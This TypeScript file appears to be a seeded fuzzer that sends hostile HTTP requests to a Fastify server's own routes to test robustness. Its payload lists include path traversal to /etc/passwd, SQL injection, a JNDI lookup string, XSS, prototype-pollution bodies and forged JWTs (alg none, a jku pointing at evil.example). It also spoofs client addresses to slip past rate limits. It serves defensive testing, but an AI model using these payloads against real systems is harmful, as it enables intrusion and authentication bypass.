import { request as httpRequest, type Agent } from 'node:http';
import type { RouteOptions } from 'fastify';
import { z } from 'zod';

// A seeded generator of hostile HTTP requests, shaped by the routes a server registered: the same
// seed gives the same requests, so a failure can be replayed with FUZZ_SEED. Each route takes the
// families of each choice (how its path, query, headers and body are made hostile) in turn, one
// request after another, so that a dozen requests per route try every family of every choice; the
// seed picks where each turn starts, and everything within a family.

export interface Random {
  next(): number;
  int(n: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

/** mulberry32: small, fast and good enough to spread requests over routes and shapes. */
export function seededRandom(seed: number): Random {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  return { next, int, pick: (items) => items[int(items.length)]!, chance: (p) => next() < p };
}

export interface HostileRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

/** One place a request can go: a method, a path pattern and what its body or query holds. */
export interface Target {
  method: string;
  /** `:name` parameters and a trailing `*` are filled in per request. */
  pattern: string;
  body?: JsonSchema;
  query?: JsonSchema;
  /** Form-encoded OAuth parameters (oidc-provider's endpoints). */
  oauth?: boolean;
  /** The route's own body limit, where it has one. */
  bodyLimit?: number | undefined;
}

export type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  default?: unknown;
};

const jsonSchemaOf = (schema: unknown): JsonSchema | undefined => {
  if (!(schema instanceof z.ZodType)) return undefined;
  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
};

/** Every method and path of the routes as registered, with their body and query schemas. */
export function targetsOf(routes: readonly RouteOptions[]): Target[] {
  return routes.flatMap((route) => {
    const methods = Array.isArray(route.method) ? route.method : [route.method];
    const schema = (route.schema ?? {}) as { body?: unknown; querystring?: unknown };
    return methods.map((method) => ({
      method,
      pattern: route.url,
      body: jsonSchemaOf(schema.body),
      query: jsonSchemaOf(schema.querystring),
      bodyLimit: route.bodyLimit,
    }));
  });
}

const CONTROLS = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  '\u000b',
  '\u000c',
  '\u001b',
  '\u001f',
  '\u007f',
  '\u0085',
  '\u009f',
  '\ud800',
  '\udfff',
];
const ODD_TEXT = [
  '',
  ' ',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  "' OR 1=1 --",
  '"; drop table borrower; --',
  '${jndi:ldap://x.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '\u202eevil',
  'Zoë 😀 ＡＢＣ',
  'e\u0301\u0301\u0301',
  '\ufeff\ufffe\uffff',
  '__proto__',
  'constructor',
  'null',
  '-1',
  '1e309',
];
const HUGE = [300, 5_000, 70_000];

/** The signed and unsigned shapes of a JWT an attacker can send: crit, none, wrong alg, bad segments. */
export function hostileJwts(issuer: string, audience: string, realToken: string): string[] {
  const b64 = (value: unknown) =>
    Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
  const now = Math.floor(Date.now() / 1000);
  const claims = {
    iss: issuer,
    aud: audience,
    sub: 'attacker',
    email: 'a@example.com',
    iat: now,
    exp: now + 600,
  };
  const [header = '', payload = '', signature = ''] = realToken.split('.');
  return [
    `${b64({ alg: 'RS256', typ: 'JWT', crit: ['exp'] })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'RS256', crit: ['b64'], b64: false })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'ES256', crit: ['x-unknown'], 'x-unknown': 1 })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'RS256', crit: 'exp' })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'none' })}.${b64(claims)}.`,
    `${b64({ alg: 'HS256' })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'RS256', kid: '\u0000' })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'ES256', kid: '\u0000x' })}.${b64(claims)}.${b64('x'.repeat(64))}`,
    `${b64({ alg: 'ES256', kid: 'a'.repeat(5000) })}.${b64(claims)}.${b64('x'.repeat(64))}`,
    `${b64({ alg: 'RS256', jku: 'http://evil.example/keys' })}.${b64(claims)}.${b64('sig')}`,
    `${b64({ alg: 'RS256' })}.${b64({ ...claims, iss: { $ne: 1 } })}.${b64('sig')}`,
    `${b64({ alg: 'RS256' })}.${b64({ ...claims, exp: 'soon' })}.${b64('sig')}`,
    `${b64('{')}.${b64(claims)}.${b64('sig')}`,
    `${b64('[1]')}.${b64('"payload"')}.${b64('sig')}`,
    `${b64('null')}.${b64('null')}.`,
    `${header}.${b64({ ...claims, sub: 'other' })}.${signature}`,
    `${header}.${payload}.${signature}x`,
    `${header}.${payload}`,
    `${header}.${payload}.${signature}.${signature}.${signature}`,
    'eyJ!!!.eyJ***.s!g',
    'a.b.c',
    '..',
    '.',
    `${header}.${payload}.${'A'.repeat(9000)}`,
    `${b64({ alg: 'RS256', typ: 'JWT' })}.${b64('\u0000')}.${b64('sig')}`,
  ];
}

export interface Credentials {
  /** A borrower's product access token, an ID token, the operators' secret. */
  accessToken: string;
  idToken: string;
  operatorSecret: string;
  jwts: string[];
}

/** Values that let a request get past the first checks, so its one hostile part reaches deeper. */
export interface KnownValues {
  byName: Record<string, string>;
}

/** A value the schema accepts (known values by field name first), so that one hostile part reaches deeper. */
export function wellShapedValue(
  schema: JsonSchema | undefined,
  name: string,
  r: Random,
  known: KnownValues,
): unknown {
  if (!schema) return known.byName[name] ?? 'value';
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return r.pick(schema.enum);
  if (schema.anyOf) {
    const options = schema.anyOf.filter((option) => option.type !== 'null');
    return wellShapedValue(options.length ? r.pick(options) : schema.anyOf[0], name, r, known);
  }
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, value]) => [
          key,
          wellShapedValue(value, key, r, known),
        ]),
      );
    case 'array':
      return [];
    case 'boolean':
      return schema.default ?? true;
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? 0;
      const max = Math.min(schema.maximum ?? min + 1_000_000, min + 1_000_000);
      return min + r.int(max - min + 1);
    }
    default:
      if (known.byName[name]) return known.byName[name];
      if (schema.format === 'email' || /email/i.test(name)) return `fuzz-${r.int(1e9)}@example.com`;
      if (schema.format === 'date') return '2031-03-01';
      if (schema.format === 'uuid') return crypto.randomUUID();
      return 'Fuzz value';
  }
}

/**
 * The longest list of families a choice goes through (the extra headers', the path's): so many rounds
 * give every route each family of every choice made once per request. A body's too: its list is
 * shorter by the rounds in which an odd method (one in ten) may be a GET or HEAD, which sends none.
 */
export const ROUNDS_FOR_EVERY_FAMILY = 12;

/** The portal's built files (a name with an extension), served by one handler. */
export const isFile = (target: Target) => /\.\w+$/.test(target.pattern);

/**
 * Hostile requests for the targets, `rounds` to each route, in rounds; the portal's files, served by
 * one handler, share one set of turns and are each asked once. Most requests keep the route's shape
 * (a well-formed body with one hostile value) so the hostile part reaches the handler, the database
 * and the token parsers; the rest are hostile as a whole (bad JSON, wrong types and content types,
 * odd methods, huge headers).
 */
export function hostileRequests(
  random: Random,
  targets: readonly Target[],
  credentials: Credentials,
  known: KnownValues,
  rounds: number,
): HostileRequest[] {
  const r = random;
  /** Where the current route is in each choice's turn. */
  let turns = new Map<string, number>();
  /** The family whose turn it is, for the route being asked; the seed picks the first. */
  function inTurn<T>(choice: string, families: readonly T[]): T {
    const at = turns.get(choice) ?? r.int(families.length);
    turns.set(choice, at + 1);
    return families[at % families.length]!;
  }
  // NUL is what PostgreSQL refuses outright: half of the control characters sent are NUL.
  const control = () => (r.chance(0.5) ? '\u0000' : r.pick(CONTROLS));

  const withControl = (valid: string) =>
    `${valid.slice(0, r.int(valid.length + 1))}${control()}${valid.slice(r.int(valid.length + 1))}`;
  const stringFamilies: ReadonlyArray<(valid: string) => string> = [
    withControl,
    () => control().repeat(1 + r.int(3)),
    () => r.pick(['a', '\u0000', 'é', '😀']).repeat(r.pick(HUGE)),
    withControl,
    () => r.pick(credentials.jwts),
    (valid) => `${valid}${r.pick(ODD_TEXT)}`,
    () => r.pick(ODD_TEXT),
  ];
  const hostileString = (valid = 'value'): string => inTurn('string', stringFamilies)(valid);

  /** A JSON value of another type than a string: null, a scalar, a container, prototype keys, depth. */
  const hostileValue = (): unknown =>
    inTurn<() => unknown>('value', [
      () => null,
      () => r.pick([0, -1, 1e308, 2 ** 53, 0.5, -0, true, false]),
      () => r.pick<() => unknown>([() => [], () => [hostileString()], () => ({})])(),
      (): unknown =>
        JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
      () => nested(r.pick([10, 200, 2000])),
    ])();

  function nested(depth: number): unknown {
    let value: unknown = hostileString();
    for (let i = 0; i < depth; i += 1) value = r.chance(0.5) ? [value] : { a: value };
    return value;
  }

  const validValue = (schema: JsonSchema | undefined, name: string) =>
    wellShapedValue(schema, name, r, known);

  /**
   * Replaces one leaf of a well-formed value with `hostile(leaf)`, or adds a hostile key holding
   * `hostile(undefined)`; `orDrop`: or leaves the field out.
   */
  function mutate(value: unknown, hostile: (valid: unknown) => unknown, orDrop: boolean): unknown {
    if (value === null || typeof value !== 'object' || Array.isArray(value)) return hostile(value);
    const object = { ...(value as Record<string, unknown>) };
    const keys = Object.keys(object);
    if (keys.length === 0 || r.chance(0.1)) {
      const key = r.pick(['__proto__', 'constructor', 'prototype', hostileString('key'), 'extra']);
      Object.defineProperty(object, key, { value: hostile(undefined), enumerable: true });
      return object;
    }
    const key = r.pick(keys);
    object[key] = orDrop && r.chance(0.2) ? undefined : mutate(object[key], hostile, orDrop);
    return object;
  }
  const hostileStringFor = (valid: unknown) => hostileString(typeof valid === 'string' ? valid : 'value');

  // encodeURIComponent refuses lone surrogates; in a URL they are sent as their (invalid) UTF-8 bytes.
  const encode = (s: string) =>
    s
      .split(/([\ud800-\udfff])/)
      .map((part) => (/^[\ud800-\udfff]$/.test(part) ? '%ED%A0%80' : encodeURIComponent(part)))
      .join('');

  function pathSegment(name: string): string {
    const valid = known.byName[name];
    if (valid && r.chance(0.3)) return encode(valid);
    return inTurn<() => string>('segment', [
      () => encode(hostileString(valid ?? 'segment')),
      () => r.pick(['..', '%2e%2e', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e%5c', '.', '%00', '%c0%ae']),
      () => r.pick(['%', '%zz', '%E0%A4%A', '%ff%fe', '%u0000']),
      () => encodeURIComponent('x'.repeat(r.pick([300, 5_000]))),
    ])();
  }

  const asIs = Array<(path: string) => string>(3).fill((path) => path);
  function fill(pattern: string): string {
    const path = pattern
      .replace(/:(\w+)/g, (_, name: string) => pathSegment(name))
      .replace(/\*$/, () =>
        r.pick(['', 'a', pathSegment('rest'), `${pathSegment('a')}/${pathSegment('b')}`]),
      );
    return inTurn<(path: string) => string>('path', [
      ...asIs,
      (path) => `/${path}`,
      ...asIs,
      (path) => path.toUpperCase(),
      ...asIs,
      (path) => `${path}/../..${path}`,
    ])(path);
  }

  function queryOf(target: Target): string {
    const fields = target.oauth
      ? oauthParams()
      : target.query
        ? (validValue(target.query, '') as Record<string, unknown>)
        : {};
    const keys = Object.keys(fields);
    // A hostile value in a field of its own (or an extra field, where it has none), a hostile extra
    // field, a malformed end, or (OAuth parameters are hostile already) nothing more.
    const family = inTurn('query', ['field', 'field', 'extra', 'field', 'malformed', 'field', 'none']);
    if (keys.length && (family === 'field' || family === 'malformed')) {
      const key = r.pick(keys);
      fields[key] = hostileString(String((fields[key] as string | number | undefined) ?? ''));
    } else if (family !== 'none') {
      fields[r.pick(['to', 'id', '__proto__[polluted]', 'constructor[prototype][x]', 'a[]'])] =
        hostileString();
    }
    const search = new URLSearchParams(
      Object.entries(fields).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)]),
    ).toString();
    if (family === 'malformed')
      return `?${search}&${r.pick(['%', '%00=%00', 'a=%E0%A4%A', '&&&', '=', 'a=1&a=2'])}`;
    return search ? `?${search}` : '';
  }

  function oauthParams(): Record<string, string> {
    const params: Record<string, string> = {
      client_id: known.byName.client_id ?? 'customer-portal',
      redirect_uri: known.byName.redirect_uri ?? '',
      grant_type: r.pick(['authorization_code', 'refresh_token']),
      response_type: 'code',
      response_mode: r.pick(['query', 'fragment', 'okta_post_message']),
      scope: 'openid profile email',
      state: 'state-value',
      nonce: 'nonce-value',
      prompt: 'none',
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256',
      code_verifier: 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk',
    };
    for (const name of r.chance(0.5) ? ['code', 'refresh_token'] : []) params[name] = 'value';
    const extra = inTurn('oauth parameter', [
      'sessionToken',
      'token',
      'token_type_hint',
      'id_token_hint',
      'login_hint',
      'ui_locales',
      'claims',
      'request',
      'max_age',
      'post_logout_redirect_uri',
      'code',
      'refresh_token',
    ]);
    params[extra] = hostileString(extra === 'id_token_hint' ? credentials.idToken : 'value');
    const key = r.pick(Object.keys(params));
    params[key] = hostileString(params[key]);
    return params;
  }

  function authorization(): Record<string, string> {
    return inTurn<() => Record<string, string>>('authorization', [
      () => ({ authorization: `Bearer ${credentials.accessToken}` }),
      () => ({ authorization: `Bearer ${credentials.accessToken}` }),
      () => ({ authorization: `Bearer ${credentials.operatorSecret}` }),
      () => ({ authorization: `Bearer ${credentials.operatorSecret}` }),
      () => ({ authorization: `Bearer ${r.pick(credentials.jwts)}` }),
      () => ({
        authorization: r.pick([
          'Bearer',
          'Bearer ',
          'Basic Zm9vOmJhcg==',
          `bearer ${'a'.repeat(9000)}`,
          'Bearer a b c',
        ]),
      }),
      () => ({}),
    ])();
  }

  function extraHeaders(): Record<string, string> {
    // Node's client sends only tab, visible ASCII and obs-text in header values: other characters become obs-text.
    const headerSafe = (s: string) => s.replace(/[^\t\x20-\x7e\x80-\xff]/g, '\u0085');
    return inTurn<() => Record<string, string>>('headers', [
      () => ({}),
      () => ({}),
      () => ({}),
      () => ({}),
      () => ({}),
      () => ({ 'x-oversized': 'a'.repeat(r.pick([9_000, 20_000, 70_000])) }),
      () => ({ 'x-request-id': headerSafe(hostileString()) }),
      () => ({ cookie: `idp_session=${headerSafe(hostileString())}; idp_session.sig=x` }),
      () => ({ origin: r.pick(['http://evil.example', 'null', headerSafe(hostileString())]) }),
      () => ({ 'accept-encoding': 'br, gzip, identity;q=0, *;q=0' }),
      () => ({ range: 'bytes=0-1,1-2,2-3,999999999-' }),
      () => ({ 'if-none-match': headerSafe(hostileString()) }),
    ])();
  }

  // A well-formed body with one hostile part in most turns: it is what reaches the handler. Its
  // values of other types than strings come in four turns of ten and the hostile JSON's, five in all:
  // so every kind of value (hostileValue's five) is in each route's ten.
  const BODY_FAMILIES = [
    'one hostile string',
    'broken JSON',
    'one hostile value',
    'hostile JSON',
    'one hostile string',
    'one hostile value',
    'wrong content type',
    'one hostile value',
    'prototype keys',
    'one hostile value',
  ] as const;
  // A route that declares no body gets none in one turn.
  const BODY_OR_NONE = ['none', ...BODY_FAMILIES.slice(1)] as const;

  function bodyOf(target: Target): { body?: string; contentType?: string } {
    const family = inTurn<string>('body', target.body || target.oauth ? BODY_FAMILIES : BODY_OR_NONE);
    const wellShaped = target.oauth
      ? undefined
      : (validValue(target.body, '') ??
        Object.fromEntries(
          ['username', 'password', 'email', 'token'].map((k) => [k, known.byName[k] ?? 'value']),
        ));
    switch (family) {
      case 'none':
        return {};
      case 'broken JSON':
        return {
          body: r.pick([
            '{',
            '{"a":',
            '[',
            '"',
            'nul',
            '{"a":1,}',
            "{'a':1}",
            '{"a":"\\ud800"}',
            '{"a":"\\u0000"}',
            '\u0000',
            '',
          ]),
          contentType: 'application/json',
        };
      case 'hostile JSON':
        return { body: JSON.stringify(hostileValue()), contentType: 'application/json' };
      case 'wrong content type':
        return {
          body: JSON.stringify(wellShaped),
          contentType: r.pick([
            'text/plain',
            'application/xml',
            'multipart/form-data; boundary=x',
            'application/json; charset=utf-16',
            'application/x-www-form-urlencoded',
            'application/jsonx',
            '',
            'application/json;;;;',
          ]),
        };
      case 'prototype keys':
        return {
          body: '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
          contentType: 'application/json',
        };
      default:
        if (target.oauth) {
          return {
            body: new URLSearchParams(oauthParams()).toString(),
            contentType: 'application/x-www-form-urlencoded',
          };
        }
        return {
          body: JSON.stringify(
            family === 'one hostile string'
              ? mutate(wellShaped, hostileStringFor, true)
              : mutate(wellShaped, hostileValue, false),
          ),
          contentType: 'application/json',
        };
    }
  }

  const ODD_METHODS = [
    'PUT',
    'DELETE',
    'PATCH',
    'OPTIONS',
    'HEAD',
    'PROPFIND',
    'FOO',
    'TRACE',
    'POST',
    'GET',
  ];

  // Its own method nine turns in ten.
  const METHOD_FAMILIES = [...Array<'its own'>(9).fill('its own'), 'odd'] as const;

  function request(target: Target): HostileRequest {
    const method = inTurn('method', METHOD_FAMILIES) === 'odd' ? r.pick(ODD_METHODS) : target.method;
    const path = fill(target.pattern) + queryOf(target);
    const headers: Record<string, string> = {
      // A client address of its own, so per-address limits let the hostile part through.
      'x-forwarded-for': `10.${r.int(256)}.${r.int(256)}.${r.int(256)}`,
      ...authorization(),
      ...extraHeaders(),
    };
    if (method === 'GET' || method === 'HEAD') return { method, path, headers };
    const { body, contentType } = bodyOf(target);
    if (contentType) headers['content-type'] = contentType;
    return body === undefined ? { method, path, headers } : { method, path, headers, body };
  }

  const routes = targets.filter((t) => !isFile(t));
  const files = targets.filter(isFile);
  const turnsOf = new Map<Target | 'files', Map<string, number>>();
  const inTurnsOf = (of: Target | 'files') => {
    turns = turnsOf.get(of) ?? new Map<string, number>();
    turnsOf.set(of, turns);
  };
  const requests: HostileRequest[] = [];
  for (let round = 0; round < rounds; round += 1) {
    for (const route of routes) {
      inTurnsOf(route);
      requests.push(request(route));
    }
    inTurnsOf('files');
    for (let i = round; i < files.length; i += rounds) requests.push(request(files[i]!));
  }
  return requests;
}

export interface Answer {
  status: number;
  retryAfter: boolean;
  body: string;
}

/** Sends one request over a keep-alive agent; a connection the server closed counts as answered. */
export function send(agent: Agent, origin: URL, request: HostileRequest): Promise<Answer | 'closed'> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        agent,
        host: origin.hostname,
        port: origin.port,
        method: request.method,
        path: request.path,
        headers:
          request.body === undefined
            ? request.headers
            : { ...request.headers, 'content-length': Buffer.byteLength(request.body) },
        timeout: 60_000,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.length < 4 && chunks.push(chunk));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            retryAfter: res.headers['retry-after'] !== undefined,
            body: Buffer.concat(chunks).toString('utf8').slice(0, 300),
          }),
        );
        res.on('error', () => resolve('closed'));
      },
    );
    req.on('timeout', () => {
      req.destroy();
      reject(
        new Error(
          `no answer in 60 s: ${request.method} ${request.path.slice(0, 200)} ${JSON.stringify(request.headers).slice(0, 300)}`,
        ),
      );
    });
    req.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code === 'ECONNRESET' || error.code === 'EPIPE' || error.code === 'HPE_INVALID_CONSTANT')
        resolve('closed');
      else reject(error);
    });
    req.end(request.body);
  });
}
